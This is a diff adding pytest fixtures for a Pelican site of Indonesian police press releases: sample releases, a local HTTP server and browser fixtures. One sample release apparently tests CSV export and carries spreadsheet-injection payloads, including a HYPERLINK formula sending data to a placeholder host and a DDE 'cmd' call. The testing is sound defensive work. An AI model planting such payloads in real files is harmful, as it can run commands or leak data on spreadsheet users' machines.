@@ -2,10 +2,14 @@
 
 from __future__ import annotations
 
+import functools
+import http.server
 import os
 import shutil
 import subprocess
 import sys
+import threading
+from contextlib import contextmanager
 from dataclasses import dataclass
 from pathlib import Path
 
@@ -33,6 +37,7 @@ class Build:
     stdout: str
     stderr: str
     output: Path
+    content: Path | None = None  # the folder built
 
     def html(self, path: str) -> BeautifulSoup:
         """Parse an output page: "satuan/" -> satuan/index.html."""
@@ -63,7 +68,7 @@ def run_pelican(content: Path, output: Path, settings: str = "pelicanconf.py", *
         text=True,
         timeout=600,
     )
-    return Build(result.returncode, result.stdout, result.stderr, output)
+    return Build(result.returncode, result.stdout, result.stderr, output, content)
 
 
 @pytest.fixture(scope="session")
@@ -78,6 +83,102 @@ def copy_content(folder: Path) -> Path:
     """A writable copy of content/ at `folder`."""
     shutil.copytree(CONTENT, folder)
     return folder
+
+
+# The real content stretched, for the tests that need more than three releases
+# in one month (tests/test_statistics.py, test_opendata.py, test_site.py):
+EXTENDED_RELEASES = {
+    # December and February: the archive spans four months, January empty but
+    # for a draft; an officer written another way ("Kompol Bayu Marfiando").
+    "2024-12-05-patroli.md": """\
+Title: Patroli Tiga Pilar Malam Minggu di Menteng
+Date: 2024-12-05 21:00
+Slug: patroli-tiga-pilar-malam-minggu-menteng
+Summary: Patroli bersama di wilayah Menteng.
+Units: Polsek Menteng; Satpol PP
+Officers: Kapolsek Menteng Kompol Bayu Marfiando; Wakapolsek Menteng Kompol II Sutasman
+Activities: Patroli Tiga Pilar
+Places: Kelurahan Menteng
+Sources: contoh.id
+Status: published
+
+Isi rilis.
+""",
+    "2025-02-10-ngopi.md": """\
+Title: Ngopi Kamtibmas Bersama Warga Johar Baru
+Date: 2025-02-10 10:00
+Slug: ngopi-kamtibmas-warga-johar-baru
+Summary: Ngopi Kamtibmas di Johar Baru.
+Units: Polsek Johar Baru
+Officers: Kapolsek Johar Baru Kompol Saiful Anwar; Kompol Bayu Marfiando
+Activities: Ngopi Kamtibmas; Cooling System
+Places: Kecamatan Johar Baru
+Sources: contoh.id
+Status: published
+
+Isi rilis.
+""",
+    # Quotes, commas, semicolons and an accent: what a CSV must keep.
+    "2024-12-02-rapat.md": """\
+Title: Rapat "Tiga Pilar", Koordinasi; Évaluasi Keamanan Menteng
+Date: 2024-12-02 09:15
+Slug: rapat-tiga-pilar-evaluasi-keamanan
+Summary: Warga bertanya: "Kapan patroli malam dimulai?" Jawabnya, mulai pekan depan, 100%.
+Units: Polsek Menteng
+Officers: Kapolsek Menteng Kompol Bayu Marfiando
+Activities: Patroli Tiga Pilar
+Places: Jalan Cikini Raya, No. 5; Kelurahan Cikini
+Sources: contoh.id
+Status: published
+
+Isi rilis.
+""",
+    # Fields a spreadsheet would run as formulas (OWASP "CSV Injection").
+    "2024-12-04-rumus.md": """\
+Title: =HYPERLINK("http://formula.example/?data=","Klik")
+Date: 2024-12-04 08:00
+Slug: rilis-rumus
+Summary: +cmd|' /C calc'!A0
+Units: Polsek Menteng
+Activities: Cooling System
+Places: -1+1; Kelurahan Cikini
+Sources: @SUM(1+1)
+Status: published
+
+Isi rilis.
+""",
+}
+# Drafts, in December and in the empty January: counted nowhere, in no data file.
+EXTENDED_RELEASES["2024-12-03-draf.md"] = (
+    EXTENDED_RELEASES["2024-12-02-rapat.md"]
+    .replace("Status: published", "Status: draft")
+    .replace("Slug: rapat-tiga-pilar-evaluasi-keamanan", "Slug: draf-yang-belum-terbit")
+)
+EXTENDED_RELEASES["2025-01-15-draf.md"] = (
+    EXTENDED_RELEASES["2025-02-10-ngopi.md"]
+    .replace("Date: 2025-02-10 10:00", "Date: 2025-01-15 10:00")
+    .replace("Slug: ngopi-kamtibmas-warga-johar-baru", "Slug: draf-januari")
+    .replace("Status: published", "Status: draft")
+)
+# The statistics page lists this many officers in the extended build.
+EXTENDED_TOP_OFFICERS = 3
+
+
+@pytest.fixture(scope="session")
+def extended_site(tmp_path_factory) -> Build:
+    """content/ plus EXTENDED_RELEASES, built once; `.content` is its folder."""
+    content = copy_content(tmp_path_factory.mktemp("extended") / "content")
+    for name, text in EXTENDED_RELEASES.items():
+        (content / "rilis" / name).write_text(text, encoding="utf-8")
+    build = run_pelican(
+        content,
+        tmp_path_factory.mktemp("extended-out"),
+        "pelicanconf.py",
+        "-e",
+        f"STATISTICS_TOP_OFFICERS={EXTENDED_TOP_OFFICERS}",
+    )
+    assert build.returncode == 0, build.stdout + build.stderr
+    return build
 
 
 @pytest.fixture
@@ -98,7 +199,7 @@ def build_content(tmp_path):
     return build
 
 
-# --- Publishing (tests/test_publish.py, tests/test_serving.py) ---
+# --- In the browser ----------------------------------------------------------
 
 CHROMIUM_ARGS = [
     "--no-sandbox",
@@ -121,6 +222,49 @@ def browser():
         )
         yield chromium
         chromium.close()
+
+
+class _QuietHandler(http.server.SimpleHTTPRequestHandler):
+    def log_message(self, format, *args):
+        pass
+
+
+@contextmanager
+def serve(folder: Path, port: int = 0):
+    """Serve `folder` over plain HTTP on 127.0.0.1 (no security header at all);
+    yields the base URL, ending in "/"."""
+    handler = functools.partial(_QuietHandler, directory=str(folder))
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", port), handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}/"
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join()
+
+
+@pytest.fixture(scope="session")
+def site_url(site):
+    """The development build served over HTTP, for the browser: "http://127.0.0.1:PORT/"."""
+    with serve(site.output) as url:
+        yield url
+
+
+@pytest.fixture
+def page(browser):
+    """A fresh browser page (Indonesian locale); a JavaScript error fails the test."""
+    context = browser.new_context(locale="id-ID")
+    page = context.new_page()
+    errors = []
+    page.on("pageerror", lambda error: errors.append(error))
+    yield page
+    context.close()
+    assert not errors, f"JavaScript errors: {errors}"
+
+
+# --- Publishing (tests/test_publish.py, tests/test_serving.py) ---
 
 
 def free_port() -> int:
